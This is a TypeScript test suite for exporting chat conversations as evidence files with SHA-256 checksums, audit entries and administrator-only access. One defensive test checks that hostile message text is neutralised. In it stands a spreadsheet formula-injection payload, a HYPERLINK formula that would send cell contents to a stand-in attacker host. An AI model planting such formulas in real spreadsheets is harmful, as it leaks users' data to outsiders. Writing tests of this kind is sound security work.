// Conversations as evidence, at both firms of the tests: files are made, checked with the system's own tool, and noted.
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { read, utils } from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import type { MessageView } from '#shared/contract/chats'
import { type EvidenceResult, evidenceResult } from '#shared/contract/evidence'
import { firmNames, openForEach } from '../../support/both-firms.ts'
import { codeOf, ended, member, startCore } from '../../support/core.ts'
import { hostileTexts } from '../../support/hostile-texts.ts'
import { temporaryFolder } from '../../support/ports.ts'
import { systemSha256 } from '../../support/system-sha256.ts'
import { firms, type Office } from './firms.ts'

const folder = temporaryFolder()

const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

const bytesAt = ({ core }: Office, handle: string): Uint8Array =>
  core.core.media.read(handle)?.bytes ?? new Uint8Array()

type Asked = Parameters<Office['core']['client']['evidence']['export']>[0]

const exportOf = async (office: Office, asked: Asked): Promise<EvidenceResult & { readonly bytes: number }> => {
  const job = await ended(office.core, await office.core.client.evidence.export(asked))
  expect(job).toMatchObject({ state: 'done', kind: 'export', area: 'chats', failure: null })
  return evidenceResult.parse(job.result)
}

const textOf = (office: Office, { handle }: EvidenceResult): string =>
  Buffer.from(bytesAt(office, handle)).toString('utf8')

const sheetsOf = (office: Office, { handle }: EvidenceResult) => {
  const book = read(bytesAt(office, handle))
  const rows = (name: string) => utils.sheet_to_json<string[]>(book.Sheets[name] ?? {}, { header: 1 })
  return { book, rows: book.SheetNames.map(rows) }
}

/** Every message of a conversation that is kept. */
const kept = async ({ core }: Office, conversation: string): Promise<readonly MessageView[]> => {
  const all: MessageView[] = []
  let from: { at: 'newest' } | { at: 'before'; pkid: string } = { at: 'newest' }
  for (;;) {
    const { messages, older } = await core.client.chats.messages({ conversation, from, limit: 200 })
    all.unshift(...messages)
    const [first] = messages
    if (!older || first === undefined) return all
    from = { at: 'before', pkid: first.pkid }
  }
}

const fsidsOf = (messages: readonly MessageView[]): readonly string[] =>
  messages.flatMap(({ body }) => ('fsid' in body && body.fsid !== '' ? [body.fsid] : []))

describe.each(firmNames)('at the %s firm', (name) => {
  let office: Office
  openForEach(firms[name], (opened) => {
    office = opened
  })

  /** The conversation with most attachments. */
  const withFiles = async (): Promise<{ readonly id: string; readonly messages: readonly MessageView[] }> => {
    const { rows } = await office.core.client.chats.conversations({ limit: 200 })
    const all = await Promise.all(rows.map(async ({ id }) => ({ id, messages: await kept(office, id) })))
    const [most] = all.sort((one, other) => fsidsOf(other.messages).length - fsidsOf(one.messages).length)
    if (most === undefined || fsidsOf(most.messages).length === 0) throw new Error('the firm sends files')
    return most
  }

  it('every message stands in the file with its id; attachments have the SHA-256 of the bytes here, or are named as not here', async () => {
    const { chats, evidence } = office.core.client
    const { id, messages } = await withFiles()
    const fsids = fsidsOf(messages)
    const here = await chats.media({ fsid: fsids[0] ?? '', conversation: id })
    office.core.ports.cut(true)
    expect(await evidence.scope({ id })).toMatchObject({ messages: messages.length, pdf: false })
    const result = await exportOf(office, { id, format: 'html', fetch: true })
    const html = textOf(office, result)
    for (const message of messages) expect(html).toContain(`>${message.id}<`)
    expect(html).toContain(sha256(bytesAt(office, here.handle)))
    expect([result.messages, result.files]).toEqual([messages.length, fsids.length])
    expect(html.match(/不在本机，没有计算/g)?.length ?? 0).toBe(result.missing * 2)
    expect(result.missing).toBe(fsids.filter((fsid) => fsid !== fsids[0]).length)
    const { user } = await office.core.client.session.state({})
    for (const fact of [user?.orgName, user?.nickname || user?.name, user?.phoneTail, 'Asia/Shanghai (UTC+08:00)', id])
      expect(html).toContain(fact)
    expect(html).toContain(`certutil -hashfile &quot;${result.name}&quot; SHA256`)
    expect(html).toContain(`shasum -a 256 &quot;${result.name}&quot;`)

    // The same as a workbook, with all that the firm still has.
    office.core.ports.cut(false)
    const sheet = await exportOf(office, { id, format: 'xlsx', fetch: true })
    expect([sheet.messages, sheet.files, sheet.missing]).toEqual([messages.length, fsids.length, 0])
    const { rows } = sheetsOf(office, sheet)
    expect(new Set(rows[1]?.slice(1).map((row) => row[1]))).toEqual(new Set(messages.map((message) => message.id)))
    const sums = rows[2]?.slice(1).map((row) => row[5]) ?? []
    for (const [at, fsid] of fsids.entries()) {
      const { handle } = await chats.media({ fsid, conversation: id })
      expect(sums[at]).toBe(sha256(bytesAt(office, handle)))
    }
  })

  it('the SHA-256 is the one of the system’s own tool, stands in the list, and one changed sign is found', async () => {
    const { evidence } = office.core.client
    const { id } = await withFiles()
    Object.assign(office.core.ports, {
      printPdf: async (html: string) => Buffer.from(`%PDF-1.7 ${sha256(Buffer.from(html))}`),
    })
    expect((await evidence.scope({ id })).pdf).toBe(true)
    const results: EvidenceResult[] = []
    for (const format of ['html', 'xlsx', 'pdf'] as const) {
      const result = await exportOf(office, { id, format })
      results.push(result)
      expect(result.name.endsWith(`.${format}`)).toBe(true)
      const bytes = Buffer.from(bytesAt(office, result.handle))
      const path = join(folder.path, result.name)
      writeFileSync(path, bytes)
      expect(systemSha256(path)).toBe(result.sha256)
      expect(textOf(office, { ...result, handle: result.sum })).toBe(`${result.sha256}  ${result.name}\n`)
      bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1
      writeFileSync(path, bytes)
      expect(systemSha256(path)).toMatch(/^[0-9a-f]{64}$/)
      expect(systemSha256(path)).not.toBe(result.sha256)
    }
    const { entries, total } = await evidence.audit({ conversation: id })
    const { user } = await office.core.client.session.state({})
    expect(entries.map(({ sha256: sum, format, file, person }) => [sum, format, file, person])).toEqual(
      results
        .toReversed()
        .map((one) => [one.sha256, one.name.split('.').at(-1), one.name, user?.nickname || user?.name]),
    )
    expect([total, (await evidence.audit({ conversation: 'another' })).total]).toEqual([3, 0])
  })

  it('what others wrote stays words: no script, no element, no formula of theirs, and nothing that a terminal runs', async () => {
    const { chats } = office.core.client
    const [row] = (await chats.conversations({ limit: 1 })).rows
    const id = row?.id ?? ''
    for (const [, text] of hostileTexts) office.write(id, text)
    await chats.refresh({ id })
    const texts = (await kept(office, id)).map(({ body }) => (body.kind === 'text' ? body.text : ''))
    expect(texts.some((text) => text.includes('<script>'))).toBe(true)
    const html = textOf(office, await exportOf(office, { id, format: 'html' }))
    const elements = new Set([...html.matchAll(/<\/?([a-z!][a-z0-9]*)/gi)].map(([, element]) => element?.toLowerCase()))
    const own = 'html head meta title style body h1 h2 dl dt dd p pre table thead tbody tr th td div span bdi'.split(
      ' ',
    )
    expect([...elements].filter((element) => !own.includes(element ?? '') && element !== '!doctype')).toEqual([])
    expect(html).toContain("default-src 'none'")
    expect([...html].some((sign) => sign === '\u0000' || sign === '\u001b')).toBe(false)
    const sheet = await exportOf(office, { id, format: 'xlsx' })
    const { book, rows } = sheetsOf(office, sheet)
    const cells = Object.values(book.Sheets).flatMap((one) => Object.values(one))
    expect(cells.filter((cell) => typeof cell === 'object' && 'f' in cell)).toEqual([])
    const written = rows[1]?.map((one) => one[7]) ?? []
    expect(written).toContain('=HYPERLINK("https://evil.example?"&A1,"合同")')
    expect(sheet.name).toMatch(/^[\p{L}\p{N}_.-]+$/u)
  })

  it('an export that is stopped leaves no file and no entry; nor does one that is printed nowhere', async () => {
    const { jobs, evidence } = office.core.client
    const { id } = await withFiles()
    const stopped = await evidence.export({ id, format: 'xlsx' })
    await jobs.cancel({ id: stopped.job })
    expect(await ended(office.core, stopped)).toMatchObject({ state: 'cancelled', result: null })
    expect(await codeOf(evidence.export({ id, format: 'pdf' }))).toBe('invalid-input')
    Object.assign(office.core.ports, { printPdf: () => Promise.reject(new Error('no paper')) })
    const job = await ended(office.core, await evidence.export({ id, format: 'pdf' }))
    expect(job).toMatchObject({ state: 'failed', result: null, failure: { code: 'internal' } })
    expect(await codeOf(evidence.export({ id, format: 'html', from: '2026-02-02', to: '2026-02-01' }))).toBe(
      'invalid-input',
    )
    expect(await codeOf(evidence.export({ id: 'nowhere', format: 'html' }))).toBe('not-found')
    expect(await evidence.audit({})).toEqual({ entries: [], total: 0 })
  })
})

it('PM-01 whoever is no administrator exports nothing and reads no list', async () => {
  const office = await firms.sample()
  const core = await startCore({ profile: join(folder.path, 'member'), firm: office.core.ports.defaultServer })
  try {
    const { accounts } = await office.core.client.session.accounts({})
    await core.client.session.signIn({ ...member, server: accounts[0]?.server ?? '' })
    for (const asked of [
      core.client.evidence.scope({ id: 'a' }),
      core.client.evidence.export({ id: 'a', format: 'html' }),
      core.client.evidence.audit({}),
    ])
      expect(await codeOf(asked)).toBe('forbidden')
  } finally {
    await core.close()
    await office.close()
  }
})
